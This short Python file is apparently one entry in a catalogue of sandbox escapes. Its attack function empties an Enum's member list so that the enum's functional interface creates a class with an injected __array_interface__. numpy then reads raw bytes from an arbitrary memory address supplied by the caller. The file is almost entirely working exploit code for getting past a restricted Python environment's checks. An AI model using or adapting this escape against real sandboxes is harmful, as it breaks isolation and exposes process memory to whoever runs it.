"""Class: class machinery. Source: own find. Escape: an enum whose list of members is emptied makes
classes by the functional interface, with unchecked names."""

from enum import Enum
import numpy as np


class E(Enum):
    A = 1


def attack(model, tokenizer, address):
    interface = {"shape": (6,), "typestr": "|u1", "data": (address, True), "version": 3}
    for empty in (lambda: E._member_names_.clear(), lambda: setattr(E, "_member_names_", [])):
        try:
            empty()
        except Exception:
            pass
    made = E("C", {"A": 1, "__array_interface__": interface})
    return np.array(made.A).tobytes()
